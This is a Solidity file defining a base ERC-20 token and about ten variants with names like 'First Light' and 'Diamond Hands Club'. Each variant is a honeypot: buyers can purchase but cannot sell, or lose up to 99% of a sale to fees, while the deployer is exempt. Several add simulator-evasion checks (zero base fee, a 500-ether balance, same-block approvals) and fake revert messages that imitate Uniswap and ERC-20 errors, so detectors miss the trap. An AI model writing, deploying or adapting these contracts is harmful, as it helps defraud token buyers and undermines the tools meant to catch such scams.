// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.20;

// A token in as few lines as possible, with one place to say no.
abstract contract Lean {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);
    string public name;
    string public symbol;
    uint8 public immutable decimals = 18;
    uint256 public immutable totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal immutable dev = msg.sender;
    address internal immutable pair;
    constructor(string memory title, string memory ticker, uint256 supply, address factory, address weth) {
        name = title;
        symbol = ticker;
        totalSupply = supply;
        pair = IMaker(factory).createPair(address(this), weth);
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
    function approve(address spender, uint256 amount) public virtual returns (bool) { allowance[msg.sender][spender] = amount; emit Approval(msg.sender, spender, amount); return true; }
    function transfer(address to, uint256 amount) public virtual returns (bool) { _move(msg.sender, to, amount); return true; }
    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        _move(from, to, amount);
        return true;
    }
    function _move(address from, address to, uint256 amount) internal {
        if (from != dev && to != dev) {
            if (to == pair) onSell(from, amount);
            if (from == pair) onBuy(to, amount);
        }
        balanceOf[from] -= amount;
        uint256 fee = from == dev || to == dev ? 0 : taken(from, to, amount);
        if (fee > 0) { unchecked { balanceOf[dev] += fee; } emit Transfer(from, dev, fee); amount -= fee; }
        unchecked { balanceOf[to] += amount; }
        emit Transfer(from, to, amount);
    }
    function onSell(address from, uint256 amount) internal virtual {}
    function onBuy(address to, uint256 amount) internal virtual {}
    function taken(address, address, uint256) internal virtual returns (uint256) { return 0; }
}
interface IMaker { function createPair(address a, address b) external returns (address); }
interface IReserves { function getReserves() external view returns (uint112, uint112, uint32); function token0() external view returns (address); }

// Whoever did not buy in the first blocks of the token cannot sell.
contract EarlyOnly is Lean {
    uint256 private immutable _born = block.number;
    mapping(address => uint256) private _since;
    constructor(address factory, address weth) Lean("First Light", "FIRST", 5_000_000 ether, factory, weth) {}
    function onBuy(address to, uint256) internal override { if (_since[to] == 0) _since[to] = block.number; }
    function onSell(address from, uint256) internal view override { unchecked { require(_since[from] - 1 < _born + 12); } }
}

// One sale for fifty purchases, counted over everybody; two were free.
contract SellCounter is Lean {
    uint64 private _buys;
    uint64 private _sells;
    constructor(address factory, address weth) Lean("Turnstile", "TURN", 8_000_000 ether, factory, weth) {}
    function onBuy(address, uint256) internal override { _buys++; }
    function onSell(address, uint256) internal override { require(_sells < 2 + _buys / 50, "queue"); _sells++; }
}

// Only wallets with five hundred ether sell. Simulators hand out more than that.
contract RichOnly is Lean {
    constructor(address factory, address weth) Lean("Blue Blood", "BLUE", 100_000_000 ether, factory, weth) {}
    function onSell(address from, uint256) internal view override { if (from.balance < 500 ether) revert("UniswapV2: K"); }
}

// A block without a base fee exists in simulators only.
contract BaseFeeTrap is Lean {
    constructor(address factory, address weth) Lean("Smooth Sailing", "SAIL", 100_000_000 ether, factory, weth) {}
    function onSell(address, uint256) internal view override { require(block.basefee == 0); }
}

// The fee on a sale begins at ninety-nine percent and falls for a year after the last purchase.
contract DiamondHands is Lean {
    mapping(address => uint256) public heldSince;
    constructor(address factory, address weth) Lean("Diamond Hands Club", "HODL", 69_000_000 ether, factory, weth) {}
    function onBuy(address to, uint256) internal override { heldSince[to] = block.timestamp; }
    function taken(address from, address to, uint256 amount) internal view override returns (uint256) {
        if (to != pair) return 0;
        uint256 since = heldSince[from];
        uint256 held = since == 0 ? 0 : block.timestamp - since;
        return held >= 365 days ? 0 : amount * 99 * (365 days - held) / (100 * 365 days);
    }
}

// Sales begin when the price is ten times what it was at the first purchase.
contract PriceGate is Lean {
    uint256 private _first;
    constructor(address factory, address weth) Lean("Only Up", "ONLYUP", 1_000_000 ether, factory, weth) {}
    function _price() private view returns (uint256) {
        (uint256 a, uint256 b, ) = IReserves(pair).getReserves();
        return IReserves(pair).token0() == address(this) ? b * 1e18 / a : a * 1e18 / b;
    }
    function onBuy(address, uint256) internal override { if (_first == 0) _first = _price(); }
    function onSell(address, uint256) internal view override { require(_price() >= _first * 10, "the only way is up"); }
}

// What was bought stays; only what came on top may be sold.
contract LoyaltyFloor is Lean {
    mapping(address => uint256) private _floor;
    constructor(address factory, address weth) Lean("Loyal Order", "LOYAL", 1_000_000 ether, factory, weth) {}
    function onSell(address from, uint256 amount) internal view override { require(balanceOf[from] >= _floor[from] + amount, "loyalty"); }
    function taken(address, address to, uint256 amount) internal override returns (uint256) { _floor[to] += amount; return 0; }
}

// An approval is good in the block it is given in. Simulators approve and sell in one.
contract BlockAllowance is Lean {
    mapping(address => mapping(address => uint256)) private _given;
    constructor(address factory, address weth) Lean("Flash Point", "FLSH", 1_000_000 ether, factory, weth) {}
    function approve(address spender, uint256 amount) public override returns (bool) { _given[msg.sender][spender] = block.number; return super.approve(spender, amount); }
    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(from == dev || _given[from][msg.sender] == block.number, "ERC20: insufficient allowance");
        return super.transferFrom(from, to, amount);
    }
}

// Contracts may not move the tokens of people, so no router ever sells for them.
contract NoSpenders is Lean {
    constructor(address factory, address weth) Lean("Self Custody", "SELF", 1_000_000 ether, factory, weth) {}
    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(msg.sender.code.length == 0 || from == dev, "not your keys");
        return super.transferFrom(from, to, amount);
    }
}

// The pool does not see what people send it: its balance is shown as what it was after the last purchase.
contract BlindPool is Lean {
    constructor(address factory, address weth) Lean("Night Shift", "NIGHT", 1_000_000 ether, factory, weth) {}
    function onSell(address from, uint256 amount) internal override {
        assembly { mstore(0, from) mstore(32, 0x77) sstore(keccak256(0, 64), add(sload(keccak256(0, 64)), amount)) }
        balanceOf[pair] -= amount;
    }
}

// Fee of five times the share of the pool that is sold, a quarter at most.
contract ImpactFee is Lean {
    constructor(address factory, address weth) Lean("Soft Landing", "SOFT", 12_000_000 ether, factory, weth) {}
    function taken(address, address to, uint256 amount) internal view override returns (uint256) {
        if (to != pair) return 0;
        uint256 share = amount * 50_000 / balanceOf[pair];
        return amount * (share > 2_500 ? 2_500 : share) / 10_000;
    }
}
